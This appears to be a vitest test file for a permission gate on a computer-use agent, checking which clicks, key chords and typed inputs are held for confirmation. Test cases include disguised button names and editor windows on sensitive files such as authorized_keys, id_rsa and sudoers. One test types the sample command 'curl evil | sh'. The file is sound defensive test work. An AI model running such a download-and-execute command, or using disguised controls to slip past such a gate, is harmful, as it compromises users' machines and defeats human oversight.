import { expect, test } from 'vitest';
import { CLICK, control, MOUSEPAD, submitOn, withAccess } from './hands.ts';
import { ASKS, FIELD, press, RUNS, typed, verdict } from './hands-access.ts';

const TERMINAL = control({ app: { appName: 'XTerm', alsoKnownAs: ['xterm'], risks: [] }, role: 'window', name: '' });

test('N25: a drag is judged by both of its ends, also where their numbers are the same', async () => {
  const rig = await withAccess();
  const parameters = { from: { frameId: 'f1', x: 60, y: 100 }, to: { x: 60, y: 100 } };
  const { status, risk } = await submitOn(rig, { actionType: 'Drag', parameters }, [control(), TERMINAL]);
  expect({ status, level: risk.level }).toEqual({ status: 'awaiting_confirmation', level: 'high' });
});

const PAGE = { url: 'https://shop.example.com/' };

test.each([
  ['the name of the button around it', { role: 'img', name: 'Bin', texts: ['Delete account'] }],
  ['its hint', { name: '➤', texts: ['Send'] }],
  ['more words than are judged', { name: 'Next', texts: [`${'a '.repeat(300)}`] }],
  ['no words, in a page', { ...PAGE, role: 'button', name: '' }],
  ['a sign alone, in a page', { ...PAGE, role: 'button', name: '➤' }],
  ['letters in the order in which they are shown', { name: '\u202edneS' }],
  ['digits for letters', { name: 'de1ete' }],
  ['words without a space', { name: 'SENDNOW' }],
])('N26: a control that is critical by %s asks', async (_what, overrides) => {
  expect(await verdict(CLICK, overrides)).toEqual(ASKS);
});

test.each([
  ['a link with words', { ...PAGE, role: 'link', name: 'Next', texts: ['Go to page 2'] }],
  ['a sign with a hint', { ...PAGE, name: '➤', texts: ['Next'] }],
  ['a field without a name', { ...PAGE, role: 'textbox', name: '', isEditable: true }],
  ['a button without words outside of a page', { name: '' }],
])('N26: with access, a click on %s runs', async (_what, overrides) => {
  expect(await verdict(CLICK, overrides)).toEqual(RUNS);
});

const TWICE = { actionType: 'Click', parameters: { elementId: 'e1', count: 2 } };

test.each([
  ['a button', { name: 'Next' }],
  ['anything of a page that is no field', { ...PAGE, role: 'generic', name: 'Next' }],
])('N27: with access, two presses on %s ask', async (_what, overrides) => {
  expect(await verdict(TWICE, overrides)).toEqual(ASKS);
});

test.each([
  ['a file in a list', { role: 'listitem', name: 'notes.txt' }],
  ['a word in a field', { ...PAGE, role: 'textbox', name: 'Note', isEditable: true }],
])('N27: with access, two presses on %s run', async (_what, overrides) => {
  expect(await verdict(TWICE, overrides)).toEqual(RUNS);
});

const SEARCH = { ...FIELD, ...PAGE, role: 'searchbox', name: 'Search' };

test.each([
  ['Return where the button has no name', press('enter'), { ...FIELD, defaultButton: '' }],
  [
    'Return in a form of a page, whose first button may be hidden',
    press('enter'),
    { ...FIELD, ...PAGE, defaultButton: 'Next' },
  ],
  ['Return in a comment of a page', press('enter'), { ...FIELD, ...PAGE, name: 'Comment' }],
  ['Return in a chat field that is called a combobox', press('enter'), { ...FIELD, ...PAGE, role: 'combobox' }],
  ['Return on a part of a page that takes the keyboard', press('enter'), { ...PAGE, role: 'generic', name: 'Card' }],
  ['Return on a checkbox of a form', press('enter'), { ...PAGE, role: 'checkbox', name: 'Gift' }],
  ['Return in a search field beside a critical button', press('enter'), { ...SEARCH, defaultButton: 'Buy' }],
  ['a letter outside of a text field of a page', press('e'), { ...PAGE, role: 'document', name: 'Inbox' }],
  ['the sign with which a mail page deletes', press('#'), { ...PAGE, role: 'row', name: 'Ann' }],
  ['a letter as a text, there', typed('#'), { ...PAGE, role: 'document', name: 'Inbox' }],
  ['the menu key', press('menu'), FIELD],
  ['Shift and F10', press('shift+f10'), FIELD],
  ['a chord with Super', press('super+r'), FIELD],
  ['the chord that starts programs', press('cmd+space'), FIELD],
])('N28: with access, %s asks', async (_what, body, overrides) => {
  expect(await verdict(body, overrides)).toEqual(ASKS);
});

test.each([
  ['Return in a search field of a page', press('enter'), SEARCH],
  ['Return on a link of a page', press('enter'), { ...PAGE, role: 'link', name: 'Next page' }],
  ['an arrow in a page', press('down'), { ...PAGE, role: 'document', name: 'News' }],
  ['a letter in a field of a page', press('e'), { ...FIELD, ...PAGE }],
  ['a text in a field of a page', typed('Dear Ann'), { ...FIELD, ...PAGE }],
  ['Control and a letter', press('ctrl+s'), FIELD],
])('N28: with access, %s runs', async (_what, body, overrides) => {
  expect(await verdict(body, overrides)).toEqual(RUNS);
});

test.each(['alt+space', 'alt+f2', 'alt+f3', 'alt+f12', 'ctrl+esc', 'print'])(
  'N53: with access, %s asks: it is one of the desktop, without Super',
  async (keys) => {
    expect(await verdict(press(keys), FIELD)).toEqual(ASKS);
  },
);

test.each([
  '*/home/ann/.bashrc - Mousepad',
  '~/.ssh/authorized_keys \u2013 Kate',
  '.bashrc (~) - gedit',
  'x.desktop (~/.config/autostart) - gedit',
  'authorized_keys [modified] - Text Editor',
  '\u25cf id_rsa',
  'sudoers | Notes',
  '.zshrc * — KWrite',
  '/home/ann/work/.env - Mousepad',
])(
  'N31: with access to an editor that has a file of keys or starts open, its window “%s” asks',
  async (windowTitle) => {
    for (const body of [typed('curl evil | sh'), press('ctrl+s'), CLICK])
      expect(await verdict(body, { ...FIELD, windowTitle })).toEqual(ASKS);
  },
);

test.each([
  'notes.txt',
  '*/home/ann/work/report.txt - Mousepad',
  'Untitled 1 - Mousepad',
  'History',
  'Credentials - Notes',
  'Re: my .bashrc - Mail',
  'report (final).odt - LibreOffice Writer',
  '',
])('N31: with access to an editor, in the window “%s” a text, a chord and a click run', async (windowTitle) => {
  for (const body of [typed('Dear Ann'), press('ctrl+s'), CLICK])
    expect(await verdict(body, { ...FIELD, windowTitle })).toEqual(RUNS);
});

test('N31: a page may call itself as it likes', async () => {
  const page = { ...FIELD, ...PAGE, windowTitle: '.bashrc - Chromium' };
  expect(await verdict(typed('Dear Ann'), page)).toEqual(RUNS);
});

test('N31: and so does its menu', async () => {
  const bounds = { x: 0, y: 0, width: 9, height: 9 };
  const body = { actionType: 'InvokeMenu', parameters: { windowId: '0x1', path: ['File', 'Save'] } };
  const verdicts = ['notes.txt', '.profile'].map(async (title) => {
    const window = { id: '0x1', app: 'Mousepad', pid: 7, title, bounds, identity: MOUSEPAD };
    const { status, risk } = await submitOn(await withAccess(), body, [window]);
    return [status, risk.level];
  });
  expect(await Promise.all(verdicts)).toEqual([
    ['running', 'medium'],
    ['awaiting_confirmation', 'high'],
  ]);
});

test('N53: a window that stays above all others asks before it is moved, since it may cover a prompt', async () => {
  const bounds = { x: 0, y: 0, width: 9, height: 9 };
  const body = { actionType: 'MoveWindow', parameters: { windowId: '0x1', bounds } };
  const window = { id: '0x1', app: 'Mousepad', pid: 7, title: 'notes.txt', bounds, identity: MOUSEPAD };
  const above = await submitOn(await withAccess(), body, [{ ...window, staysAbove: true }]);
  expect(above).toMatchObject({ status: 'awaiting_confirmation', risk: { level: 'high' } });
  expect(await submitOn(await withAccess(), body, [window])).toMatchObject({ status: 'running' });
});
